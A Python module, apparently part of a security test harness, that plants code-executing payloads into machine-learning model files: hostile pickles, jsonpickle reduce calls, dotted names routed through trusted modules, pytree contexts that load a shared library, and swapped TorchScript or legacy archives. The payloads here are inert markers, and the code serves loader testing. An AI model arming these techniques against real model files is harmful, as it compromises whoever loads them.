"""Code for an artifact's carriers, as a stranger would write it who knows the format and can write the file.

A `Plant` changes the bytes of one file, or of one member of an archive, or leaves them (None). What is planted is
inert and shows itself: it makes the marker, an empty folder or file, or ends its process with SIGABRT where the format
lets it choose a function but no argument.

Sources, beside those of `tamper`: CVE-2025-54413 (dotted names through a trusted module), CVE-2025-54886 and
CVE-2025-32434 (another format, or an older one, in place of the expected), the list of externals in torch.package's own
archives, TorchScript's `__setstate__` with `torch.from_file`, and `enum_object_hook` of `torch.utils._pytree`.
"""

from __future__ import annotations

import contextlib
import io
import itertools
import json
import os
import pickle
import pickletools
import re
import struct
import subprocess
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

ABORTS = "SIGABRT"
"""What the harness says of a process that called `os.abort`."""

_NAME = re.compile(r"[A-Za-z_]\w*(?:\.\w+)*:[A-Za-z_][\w.]*|[A-Za-z_]\w*(?:\.[A-Za-z_]\w*)+")
"""module:function, or a dotted name."""


@dataclass(frozen=True)
class Payload:
    """What a planter has at hand."""

    marker: Path
    own_module: str = "model"
    """A module that the loader trusts: the model's own."""
    torchscript: bytes | None = None
    """A TorchScript archive that makes the marker when it is loaded."""
    library: Path | None = None
    """A shared library that makes the marker when it is loaded; None where there is no C compiler."""


Plant = Callable[[bytes, str, Payload], bytes | None]


# --- pickles and Python -----------------------------------------------------------------------------------------


def _hostile_pickle(payload: Payload) -> bytes:
    class Call:
        def __reduce__(self):
            return os.mkdir, (str(payload.marker),)

    return pickle.dumps(Call(), protocol=2)


def _pickle(data: bytes, name: str, payload: Payload) -> bytes | None:
    if _lists_externals(name):
        return _with_externals(data)
    if is_pickle(data):
        return _hostile_pickle(payload)
    for wbits in (zlib.MAX_WBITS, zlib.MAX_WBITS | 16):  # zlib's own framing, gzip's
        try:
            inside = zlib.decompress(data, wbits)
        except zlib.error:
            continue
        if is_pickle(inside):
            packer = zlib.compressobj(wbits=wbits)
            return packer.compress(_hostile_pickle(payload)) + packer.flush()
    return None


def is_pickle(data: bytes) -> bool:
    """Whether the first operations parse; joblib's streams have arrays between later ones."""
    try:
        return data[:1] == b"\x80" and bool(list(itertools.islice(pickletools.genops(data), 10)))
    except ValueError:
        return False


def _source(data: bytes, name: str, payload: Payload) -> bytes | None:
    if _lists_externals(name):
        return _with_externals(data)
    if not name.endswith(".py"):
        return None
    folder = repr(str(payload.marker))
    return data + f"\n__import__('os').path.isdir({folder}) or __import__('os').mkdir({folder})\n".encode()


def _lists_externals(name: str) -> bool:
    """torch.package lists in the archive itself which modules from outside its code may import."""
    return name.endswith(".data/extern_modules")


def _with_externals(data: bytes) -> bytes:
    return data.rstrip() + b"\nos\nposix\n"


# --- names in texts ---------------------------------------------------------------------------------------------


def _reduce(data: bytes, name: str, payload: Payload) -> bytes | None:
    """jsonpickle's way to say `call this`."""
    if _json(data) is None:
        return None
    call = {"py/reduce": [{"py/function": "os.mkdir"}, {"py/tuple": [str(payload.marker)]}]}
    return json.dumps(call).encode()


def _caller(data: bytes, name: str, payload: Payload) -> bytes | None:
    """A graph of module, caller and arguments, as AI-JSONable and Keras name what to call."""
    if _json(data) is None:
        return None
    return json.dumps({"var0": {"module": "os", "caller": "mkdir", "kwargs": {"path": str(payload.marker)}}}).encode()


def _names(data: bytes, name: str, payload: Payload) -> bytes | None:
    return _with_calls(data, payload, "os{}mkdir")


def _names_through_own(data: bytes, name: str, payload: Payload) -> bytes | None:
    return _with_calls(data, payload, payload.own_module + "{}torch.hub.os.mkdir")


def _with_calls(data: bytes, payload: Payload, call: str) -> bytes | None:
    """A JSON text in which each value that is a name is `call`, and each other text and number the marker's path.

    Keys stay, and so do the texts and numbers at the top, which say what the file is.
    """
    value = _json(data)
    if value is None:
        return None

    def changed(item: Any, top: bool = False) -> Any:
        if isinstance(item, dict):
            return {key: changed(inner, top and not isinstance(inner, dict | list)) for key, inner in item.items()}
        if isinstance(item, list):
            return [changed(inner) for inner in item]
        if isinstance(item, str) and _NAME.fullmatch(item):
            return call.format(":" if ":" in item else ".")
        kept = top or item is None or isinstance(item, bool)
        return item if kept else str(payload.marker)

    new = changed(value, top=True)
    return json.dumps(new).encode() if call.partition("{")[0] in json.dumps(new) else None


def _builder(data: bytes, name: str, payload: Payload) -> bytes | None:
    return _with_builder(data, "os:abort")


def _builder_through_own(data: bytes, name: str, payload: Payload) -> bytes | None:
    return _with_builder(data, f"{payload.own_module}:torch.hub.os.abort")


def _with_builder(data: bytes, call: str) -> bytes | None:
    """The function that is called without an argument ("module:function") in a text, a JSON or a pickle's texts."""
    named = r"[A-Za-z_][\w.]*:[A-Za-z_][\w.]*"
    if is_pickle(data):
        new = data
        for text in {text for _, text, _ in _operations(data) if isinstance(text, str) and re.fullmatch(named, text)}:
            new = new.replace(_binunicode(text), _binunicode(call))
        return new if new != data else None
    if _json(data) is not None:
        new = re.sub(f'"{named}"'.encode(), json.dumps(call).encode(), data)
        return new if new != data else None
    return call.encode() if re.fullmatch(named.encode(), data.strip()) else None


def _operations(data: bytes) -> Iterator[tuple]:
    """The operations of a pickle as far as they parse."""
    with contextlib.suppress(ValueError):
        yield from pickletools.genops(data)


def _binunicode(text: str) -> bytes:
    return b"X" + struct.pack("<I", len(text.encode())) + text.encode()


def _tree_context(data: bytes, name: str, payload: Payload) -> bytes | None:
    """A nest as torch.utils._pytree writes it, whose dictionary's keys are an "enum": the shared library."""
    if payload.library is None or b"children_spec" not in data or _json(data) is None:
        return None
    context = json.dumps({"__enum__": True, "fqn": "ctypes:cdll", "name": str(payload.library)})

    def changed(item: Any) -> Any:
        if isinstance(item, str) and "children_spec" in item and _json(item.encode()) is not None:
            return json.dumps(changed(json.loads(item)))
        if isinstance(item, dict) and "children_spec" in item:
            return item | {"type": "builtins.dict", "context": context}
        if isinstance(item, dict):
            return {key: changed(inner) for key, inner in item.items()}
        return [changed(inner) for inner in item] if isinstance(item, list) else item

    new = json.dumps(changed(json.loads(data)))
    return new.encode() if "ctypes:cdll" in new else None


def _json(data: bytes) -> object | None:
    if data[:1] not in (b"{", b"["):
        return None
    try:
        return json.loads(data)
    except ValueError:
        return None


# --- another file in place of the whole -------------------------------------------------------------------------


def _torchscript(data: bytes, name: str, payload: Payload) -> bytes | None:
    """Of torch's archives: what `torch.load` and `torch.jit.load` tell apart by what is inside."""
    return payload.torchscript if payload.torchscript and _is_torch_archive(data) else None


def _is_torch_archive(data: bytes) -> bool:
    if data[:4] != b"PK\x03\x04":
        return False
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return any(member.endswith(("data.pkl", "constants.pkl")) for member in archive.namelist())


def _other_format(data: bytes, name: str, payload: Payload) -> bytes | None:
    return None if _is_text(data) else _hostile_pickle(payload)


def _legacy_tar(data: bytes, name: str, payload: Payload) -> bytes | None:
    """The archive of torch before 1.6, whose members are pickles."""
    if not _is_torch_archive(data) and not is_pickle(data):
        return None
    out, inside = io.BytesIO(), _hostile_pickle(payload)
    with tarfile.open(fileobj=out, mode="w") as archive:
        for member in ("sys_info", "storages", "tensors", "pickle"):
            info = tarfile.TarInfo(member)
            info.size = len(inside)
            archive.addfile(info, io.BytesIO(inside))
    return out.getvalue()


def _is_text(data: bytes) -> bool:
    try:
        return not re.search(r"[\x00-\x08\x0e-\x1f]", data.decode("utf-8"))
    except UnicodeDecodeError:
        return False


INSIDE: dict[str, Plant] = {
    "a pickle that calls os.mkdir": _pickle,
    "a line of Python": _source,
    "a JSON that reduces to a call": _reduce,
    "a JSON that names a caller": _caller,
    "other names in the JSON": _names,
    "names through the model's own module in the JSON": _names_through_own,
    "os.abort named as the function that builds the model": _builder,
    "os.abort named so through the model's own module": _builder_through_own,
    "a shared library named as the keys of a nest": _tree_context,
}
"""Kind -> what to put in place of the bytes of a file, or of an archive's member."""

WHOLE: dict[str, Plant] = {
    "a TorchScript archive whose __setstate__ opens a file to write": _torchscript,
    "a pickle in place of the binary files": _other_format,
    "an archive of torch before 1.6 in place of the file": _legacy_tar,
}
"""Kind -> what to put in place of a whole file of the artifact."""


def shared_library(folder: Path, marker: Path) -> Path | None:
    """A library that makes the marker when it is loaded; None where `cc` cannot make one."""
    source, library = folder / "planted.c", folder / "planted.so"
    source.write_text(
        "#include <sys/stat.h>\n"
        f"__attribute__((constructor)) static void run(void) {{ mkdir({json.dumps(str(marker))}, 0700); }}\n"
    )
    try:
        done = subprocess.run(["cc", "-shared", "-fPIC", "-o", library, source], capture_output=True, timeout=60)
    except (OSError, subprocess.TimeoutExpired):
        return None
    return library if done.returncode == 0 else None
